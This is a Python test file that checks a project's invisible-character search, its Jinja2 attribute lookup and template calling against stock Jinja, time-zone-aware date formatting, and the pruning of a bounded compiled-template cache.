def test_the_quick_search_for_unshown_characters_finds_what_unshown_finds() -> None:
    """Every code point, alone and after other text; astral ones among ASCII and BMP."""
    from followup._text import UNSHOWN, find_unshown

    for start in range(0, 0x110000, 0x1000):
        block = "".join(map(chr, range(start, start + 0x1000)))
        for index, char in enumerate(block):
            expected = UNSHOWN.match(char) is not None
            assert (find_unshown(char) is not None) == expected, hex(start + index)
        for text in (block, "abc " + block[::-1], "é" + block[-5:], "\U000e0001a\u202e" + block):
            found, expected_found = find_unshown(text), UNSHOWN.search(text)
            assert (found and found.start()) == (expected_found and expected_found.start())


@pytest.mark.parametrize("attribute", ["formality", "missing", "items", "get", "__class__"])
def test_a_trusted_attribute_lookup_finds_what_jinja_finds(attribute: str) -> None:
    import jinja2

    from followup.rendering.environment import _Trusted

    data = {"formality": "formal", "items": "a key named like a method"}
    ours, theirs = (
        _Trusted().getattr(data, attribute),
        jinja2.Environment().getattr(data, attribute),
    )
    if isinstance(theirs, jinja2.Undefined):
        assert isinstance(ours, jinja2.Undefined)
        assert ours._undefined_name == theirs._undefined_name  # type: ignore[attr-defined]
    else:
        assert ours == theirs


def test_one_instant_in_two_zones_is_written_as_two_days() -> None:
    import datetime as dt

    from followup.locales import resolve_locale
    from followup.rendering.filters import FILTERS
    from followup.rendering.i18n import speaking

    utc = dt.datetime(2026, 11, 24, 23, 30, tzinfo=dt.UTC)
    tokyo = utc.astimezone(dt.timezone(dt.timedelta(hours=9)))
    assert utc == tokyo
    with speaking(resolve_locale("en_US"), informal=False):
        written = [FILTERS["format_date"](when) for when in (utc, tokyo)]
    assert written == ["November 24, 2026", "November 25, 2026"]


def test_a_trusted_context_calls_as_jinja_calls() -> None:
    """Macros, functions that take the context, the eval context or nothing, in and
    out of loops, and a callable that raises StopIteration."""
    import jinja2

    from followup.rendering.environment import _Trusted

    @jinja2.pass_context
    def seen(context: jinja2.runtime.Context, name: str) -> str:
        return f"{name}={context.resolve(name)!s}"

    @jinja2.pass_eval_context
    def escaping(eval_ctx: jinja2.nodes.EvalContext) -> str:
        return f"autoescape={eval_ctx.autoescape}"

    def stops() -> str:
        raise StopIteration

    source = (
        "{% macro m(a, b=2) %}[{{ a }},{{ b }},{{ varargs|length }}]{% endmacro %}"
        "{{ m(1) }}{{ m(1, 3, 4) }}{{ seen('x') }}{{ escaping() }}{{ plain(5) }}"
        "{{ stops() is undefined }}"
        "{% for x in [7, 8] %}{% set z = x * 2 %}{{ seen('z') }}{{ m(x) }}{% endfor %}"
        "{% set y %}{{ seen('x') }}{% endset %}{{ y }}"
    )
    variables = {"x": 0, "seen": seen, "escaping": escaping, "plain": abs, "stops": stops}
    ours = _Trusted(autoescape=True).from_string(source)
    theirs = jinja2.Environment(autoescape=True).from_string(source)
    assert isinstance(ours.new_context(), jinja2.runtime.Context)
    assert type(ours.new_context()) is not jinja2.runtime.Context
    assert ours.render(variables) == theirs.render(variables)
    assert "z=14" in theirs.render(variables)  # the loop's own variables reached seen()


def test_the_compiled_templates_kept_are_bounded_the_last_used_kept(tmp_path: Path) -> None:
    from followup.rendering.environment import _Compiled

    kept = _Compiled(str(tmp_path))
    kept.KEEP = 2
    sources = jinja2.DictLoader({f"t{n}": f"template {n}" for n in range(5)})

    def compile_(*names: str) -> None:  # in a new environment: nothing in memory
        env = jinja2.Environment(loader=sources, bytecode_cache=kept)
        for name in names:
            env.get_template(name)

    def files() -> set[str]:
        return {p.name for p in tmp_path.iterdir()}

    compile_("t0", "t1", "t2", "t3")
    assert len(files()) == 2
    t2, t3 = (tmp_path / (kept.pattern % kept.get_cache_key(n)) for n in ("t2", "t3"))
    assert {t2.name, t3.name} == files()
    for path in (t2, t3):
        os.utime(path, (1, 1))
    compile_("t2")  # loaded, not compiled: used last
    compile_("t4")
    assert t2.name in files()
    assert t3.name not in files()


def test_a_process_compiling_more_than_the_folder_keeps_lists_it_once_per_eighth(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A batch in every language compiles more templates than the folder keeps: the
    folder is listed (24 ms at a thousand files) once per eighth of them, not after
    each template."""
    from followup import _cache
    from followup.rendering.environment import _Compiled

    kept = _Compiled(str(tmp_path))
    kept.KEEP = 64
    listed: list[int] = []
    prune = _cache.prune

    def counted(where: Path, *, keep: int, pattern: str) -> int:
        listed.append(keep)
        return prune(where, keep=keep, pattern=pattern)

    monkeypatch.setattr(_cache, "prune", counted)
    sources = jinja2.DictLoader({f"t{n}": f"template {n}" for n in range(200)})
    env = jinja2.Environment(loader=sources, bytecode_cache=kept)
    for n in range(200):
        env.get_template(f"t{n}")
    assert 2 <= len(listed) <= 200 // 8 + 2
    assert 64 <= len(list(tmp_path.iterdir())) <= 64 + 8
